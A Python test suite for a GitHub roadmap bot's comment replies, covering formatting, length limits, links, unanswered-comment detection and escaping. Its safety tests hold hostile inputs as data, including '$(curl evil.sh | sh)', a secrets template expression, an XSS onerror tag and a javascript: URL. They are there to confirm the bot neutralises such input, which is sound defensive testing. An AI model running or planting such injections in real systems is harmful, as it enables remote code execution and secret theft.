"""render_reply and friends: the one reply per comment, its links, limits and safety (pure)."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from roadmap_bot.core.commands.apply import apply_comment
from roadmap_bot.core.commands.grammar import parse_comment
from roadmap_bot.core.commands.permissions import Access, Decision
from roadmap_bot.core.commands.replies import (
    CUT_NOTE,
    MAX_REPLY,
    ReplyFacts,
    check_report,
    checked_items,
    details_shown,
    fit,
    follow_up,
    next_open,
    render_event_refusal,
    render_reply,
    replies_to,
    reply_authors,
    surplus_replies,
    unanswered,
    unsaved,
)
from roadmap_bot.core.commands.spec import CommandName, Origin, Outcome
from roadmap_bot.core.issues import CommentInfo
from roadmap_bot.core.markers import find_reply_marker, reply_marker
from roadmap_bot.core.model import State
from roadmap_bot.core.planning.plan import TickedItem
from roadmap_bot.core.progress import roadmap_progress
from roadmap_bot.core.rules.verdict import Verdict
from roadmap_bot.core.schema import load_roadmap

ROADMAP = load_roadmap(
    """\
version: 1
title: Replies
phases:
  - id: phase1
    title: "Pipes | and <tags>"
    sections:
      - title: Topics
        kind: topic
        items:
          - {id: python, title: Python}
          - {id: rag, title: RAG, rule: {require: [readme]}}
""",
    "roadmap.yaml",
)
IDS = [item.id for item in ROADMAP.items()]
ALLOW = {name: Decision(Access.ALLOW) for name in CommandName}
SERVER = "https://github.com"


def outcomes(body: str) -> tuple[Outcome, ...]:
    parsed = parse_comment(body, known_ids=IDS)
    origin = Origin("ada", "https://github.com/ada/r/issues/1#issuecomment-9", "2026-03-02", 9)
    return apply_comment(ROADMAP, State(), parsed, access=ALLOW, origin=origin).outcomes


def reply(body: str, facts: ReplyFacts | None = None) -> str:
    return render_reply(
        outcomes(body), facts or ReplyFacts(), author="ada", comment_id=9, example_id="phase1.rag"
    )


def outside_code(markdown: str) -> str:
    """The markdown with code spans and fenced blocks removed: what GitHub would interpret."""
    text = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text, flags=re.S)


# --- shape and limits -------------------------------------------------------------------------


def test_a_reply_names_the_author_lists_every_line_and_ends_with_its_marker() -> None:
    text = reply("/done phase1.python\n/undo phase1.rag\n/done phase1.nope")
    assert text.startswith("@ada some of this did not go through.")
    assert "- ✅ `/done phase1.python` — ticked `phase1.python`" in text
    assert "- ➖ `/undo phase1.rag` — `phase1.rag` is not ticked; nothing to undo" in text
    assert "- ❓ `/done phase1.nope` — no item `phase1.nope`" in text
    assert text.rstrip().splitlines()[-1] == reply_marker(9)
    assert find_reply_marker(text) == 9


def test_all_good_says_done_and_a_dry_run_says_nothing_was_written() -> None:
    assert reply("/done phase1.python").startswith("@ada done.")
    assert "dry run: nothing was written" in reply("/status", ReplyFacts(dry_run=True))


def test_a_failed_run_says_nothing_was_written_and_quotes_the_error_in_a_block() -> None:
    facts = ReplyFacts(error="roadmap.yaml:3:1: ```bad``` <b>x</b>")
    text = render_reply(
        unsaved(outcomes("/done phase1.python")),
        facts,
        author="ada",
        comment_id=9,
        example_id="phase1.rag",
    )
    assert "I could not carry out this comment" in text
    assert "⚠️ `/done phase1.python` — ticked `phase1.python` — not saved" in text
    assert "````text\nroadmap.yaml:3:1: ```bad``` <b>x</b>\n````" in text


def test_fit_cuts_a_long_reply_at_a_line_break_and_keeps_the_marker() -> None:
    text = "\n".join("x" * 99 for _ in range(2000))
    fitted = fit(text, reply_marker(1), limit=10_000)
    assert len(fitted) < 10_000 + 100 and CUT_NOTE.strip() in fitted
    assert fitted.rstrip().endswith(reply_marker(1))
    assert all(line in ("x" * 99, "") for line in fitted.split(CUT_NOTE.strip())[0].splitlines())


def test_the_longest_possible_reply_stays_under_githubs_limit() -> None:
    body = "\n".join(f"/done phase1.{'x' * 180}" for _ in range(20)) + "\n/help\n/status"
    lines = list(outcomes(body)) * 60  # far more than a comment can hold
    progress = roadmap_progress(ROADMAP, State())
    text = render_reply(
        lines,
        ReplyFacts(progress=progress),
        author="a" * 39,
        comment_id=2**40,
        example_id="phase1.rag",
    )
    assert len(text) < 65_536 and len(text) <= MAX_REPLY + 200
    assert text.rstrip().endswith(reply_marker(2**40))


# --- safety -----------------------------------------------------------------------------------

HOSTILE = [
    "/done phase1.python $(curl evil.sh | sh)",
    "/skip phase1.rag ${{ secrets.GITHUB_TOKEN }}",
    "/done phase1.python <img src=x onerror=alert(1)> @octocat #1",
    "/done phase1.python ```` `` ` ```",
    "/link phase1.rag javascript:alert(1)",
    "/skip phase1.python \u202ereversed\u200b text",
]


@given(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=6), st.text(max_size=80))
@settings(max_examples=50, deadline=None)
def test_user_text_reaches_the_reply_only_inside_code_spans(lines: list[str], extra: str) -> None:
    text = reply("\n".join(lines) + "\n/skip phase1.rag " + extra.replace("\n", " "))
    visible = outside_code(text)
    for bad in ("$(", "${{", "<img", "<script", "@octocat", "javascript:", "\u202e"):
        assert bad not in visible
    assert not re.search(r"(?m)^\s{0,3}/[a-z]", visible)  # no line of the reply is a command


def test_evidence_and_roadmap_text_is_escaped() -> None:
    verdict = Verdict("phase1.rag", False, failed=("readme: <b>@someone</b> wrote | this",))
    facts = ReplyFacts(
        checks=[check_report(ROADMAP, State(), "phase1.rag", verdict)],
        progress=roadmap_progress(ROADMAP, State()),
    )
    text = reply("/check phase1.rag\n/status", facts)
    assert "&lt;b&gt;@\u200bsomeone&lt;/b&gt;" in text
    assert "Pipes \\| and &lt;tags&gt;" in text


def test_event_refusal_names_the_person_and_carries_its_own_marker() -> None:
    text = render_event_refusal(login="tim", item_id="phase1.rag", number=4)
    assert text.startswith("@tim closing or reopening this issue")
    assert text.rstrip().endswith("<!-- roadmap-bot:refused=4:tim -->")


# --- sections and follow-ups ------------------------------------------------------------------


def test_status_shows_a_table_of_phases_with_the_current_one_marked() -> None:
    facts = ReplyFacts(progress=roadmap_progress(ROADMAP, State()))
    text = reply("/status", facts)
    assert "| ▶ Pipes \\| and &lt;tags&gt; <sub>`phase1`</sub> | 0/2 | `░░░░░░░░░░` | 0% |" in text
    assert "| **Total** | 0/2 |" in text
    assert "### Progress" not in reply("/done phase1.python", facts)


def test_status_lists_the_next_open_items_with_their_ids() -> None:
    state = State()
    facts = ReplyFacts(
        progress=roadmap_progress(ROADMAP, state), next_items=next_open(ROADMAP, state)
    )
    text = reply("/status", facts)
    assert "Next in the current phase, with the ids commands take:" in text
    for item in ROADMAP.phases[0].items:
        assert f"- `{item.id}` " in text
    assert next_open(ROADMAP, state, limit=1) == ((ROADMAP.phases[0].items[0].id, "Python"),)
    assert "Next in the current phase" not in reply("/done phase1.python", facts)


def test_check_lists_each_checks_reason_with_links_to_the_repo_and_commit() -> None:
    verdict = Verdict(
        "phase1.rag",
        True,
        repo="ada/rag",
        commit="0123456789abcdef",
        reasons=("readme: README.md has 50 words",),
    )
    state = State(links={"phase1.rag": ("ada/rag",)})
    facts = ReplyFacts(checks=[check_report(ROADMAP, state, "phase1.rag", verdict)])
    text = reply("/check phase1.rag", facts)
    assert "### `/check phase1.rag` — RAG" in text
    assert "linked: [ada/rag](https://github.com/ada/rag)" in text
    assert "Rule: ticked automatically when a linked repo has a README." in text
    assert "holds** in [ada/rag](https://github.com/ada/rag) at [`0123456`]" in text
    assert "(https://github.com/ada/rag/commit/0123456789abcdef)" in text
    assert "- ✔️ readme: README.md has 50 words" in text


def test_check_of_an_item_without_rule_or_repo_says_how_it_gets_ticked() -> None:
    by_hand = check_report(ROADMAP, State(), "phase1.python", None)
    no_repo = check_report(ROADMAP, State(), "phase1.rag", None)
    text = reply("/check phase1.python\n/check phase1.rag", ReplyFacts(checks=[by_hand, no_repo]))
    assert "Rule: none — this item is ticked by hand" in text
    assert "link a repository with `/link phase1.rag owner/name`" in text
    assert checked_items(outcomes("/check phase1.rag\n/check PHASE1.RAG")) == ["phase1.rag"]


def test_help_is_included_only_when_asked_for() -> None:
    assert "**Commands I answer**" in reply("/help")
    assert "**Commands I answer**" not in reply("/status")


def test_follow_ups_tell_what_the_run_made_of_a_command() -> None:
    link, done, nxt = outcomes("/link phase1.rag ada/rag\n/done phase1.python\n/next")
    ticked = ReplyFacts(
        ticked={"phase1.rag": TickedItem("phase1.rag", "RAG", (), "ada/rag", "abcdef123")},
        closed=[("phase1.python", 4)],
        opened=[("phase1.rag", 5)],
    )
    assert follow_up(link, ticked).startswith("its evidence holds in [ada/rag](")
    assert "/ada/rag/commit/abcdef123)" in follow_up(link, ticked)
    assert follow_up(done, ticked) == "closed #4"
    assert follow_up(nxt, ticked) == "opened #5 (`phase1.rag`)"
    failing = ReplyFacts(
        verdicts={"phase1.rag": Verdict("phase1.rag", False, failed=("readme: none",))},
        open_limit=3,
    )
    assert follow_up(link, failing) == "not ticked yet: readme: none"
    assert follow_up(nxt, failing) == (
        "no new issue to open: up to 3 stay open for the current phase"
    )
    problem = ReplyFacts(verdicts={"phase1.rag": Verdict("phase1.rag", False, problem="gone")})
    assert follow_up(link, problem) == "could not be checked: gone"
    assert follow_up(link, ReplyFacts(error="boom")) == ""


def test_the_changes_line_links_the_commit_and_the_issues() -> None:
    facts = ReplyFacts(
        repo_slug="ada/roadmap", commit="feedbeef" * 5, closed=[("phase1.python", 4)]
    )
    text = reply("/done phase1.python", facts)
    assert (
        "**Changes:** README, state and badges in [`feedbee`]"
        "(https://github.com/ada/roadmap/commit/"
        + "feedbeef" * 5
        + "); closed #4 (`phase1.python`)."
    ) in text


# --- which comments still need an answer ------------------------------------------------------


def comment(id_: int, body: str, author: str = "ada", kind: str = "User") -> CommentInfo:
    return CommentInfo(id_, 1, body, author, kind, created_at=f"2026-03-02T10:00:{id_:02d}Z")


def test_unanswered_finds_command_comments_without_a_trusted_reply_oldest_first() -> None:
    comments = [
        comment(3, "/status"),
        comment(1, "/done phase1.python"),
        comment(2, "thanks!"),
        comment(4, "/help", author="renovate[bot]", kind="Bot"),
        comment(5, "/next"),
        comment(6, f"ok {reply_marker(5)}", author="github-actions[bot]", kind="Bot"),
        comment(7, "```\n/done phase1.python\n```\n> /skip phase1.rag"),
        comment(8, f"/undo phase1.python {reply_marker(3)}", author="sam"),
    ]
    assert [c.id for c in unanswered(comments, known_ids=IDS, trusted=set())] == [1, 3]
    assert reply_authors(comments) == {"sam"}
    assert [c.id for c in unanswered(comments, known_ids=IDS, trusted={"sam"})] == [1]


def test_a_change_to_an_item_with_an_issue_links_the_issue() -> None:
    (done,) = outcomes("/done phase1.python")
    assert follow_up(done, ReplyFacts(issues={"phase1.python": 7})) == "its issue: #7"
    report = check_report(ROADMAP, State(), "phase1.python", None)
    text = reply("/check phase1.python", ReplyFacts(checks=[report], issues={"phase1.python": 7}))
    assert "Status: **open** · issue #7." in text


# -- duplicate replies and private evidence -----------------------------------------------------


def _reply(comment_id: int, target: int, author: str = "github-actions[bot]") -> CommentInfo:
    kind = "Bot" if author.endswith("[bot]") else "User"
    return CommentInfo(comment_id, 1, f"done\n\n{reply_marker(target)}\n", author, kind)


def test_replies_to_lists_trusted_replies_oldest_first_and_ignores_strangers() -> None:
    comments = [_reply(9, 1), _reply(5, 1), _reply(7, 1, "sam"), _reply(6, 2), _reply(8, 1, "ada")]
    assert [c.id for c in replies_to(comments, 1, trusted={"ada"})] == [5, 8, 9]


def test_surplus_replies_are_the_later_ones_by_the_same_author() -> None:
    comments = [_reply(3, 1), _reply(2, 1), _reply(4, 1, "ada"), _reply(5, 2), _reply(6, 1, "sam")]
    assert [c.id for c in surplus_replies(comments, trusted={"ada"})] == [3]


@given(
    st.lists(
        st.tuples(st.integers(1, 4), st.sampled_from(["github-actions[bot]", "ada", "sam"])),
        max_size=30,
    )
)
def test_without_the_surplus_each_comment_keeps_its_oldest_reply_per_author(
    shape: list[tuple[int, str]],
) -> None:
    comments = [_reply(100 + i, target, author) for i, (target, author) in enumerate(shape)]
    gone = {c.id for c in surplus_replies(comments, trusted={"ada"})}
    kept = [c for c in comments if c.id not in gone]
    for target in range(1, 5):
        replies = replies_to(comments, target, trusted={"ada"})
        left = replies_to(kept, target, trusted={"ada"})
        assert left[:1] == replies[:1]  # the oldest reply always stays
        assert all(c.author != left[0].author for c in left[1:]) if left else True
    assert all(c.author != "sam" for c in comments if c.id in gone)


def test_private_evidence_is_shown_only_for_repos_known_to_be_public() -> None:
    public = {"ada/open": "public", "ada/closed": "private", "ada/inner": "internal"}
    assert details_shown(["ada/open", "https://github.com/ada/open"], public, roadmap_public=True)
    assert details_shown(["https://gitlab.com/ada/x.git"], {}, roadmap_public=True)
    for hidden in (
        ["ada/closed"],
        ["ada/inner"],
        ["ada/unknown"],
        ["ada/open", "ada/closed"],
        ["https://ada:glpat-secret@gitlab.com/ada/x.git"],
        ["git@gitlab.com:ada/x.git"],
        ["./local/folder"],
    ):
        assert not details_shown(hidden, public, roadmap_public=True), hidden
        assert details_shown(hidden, public, roadmap_public=False), hidden
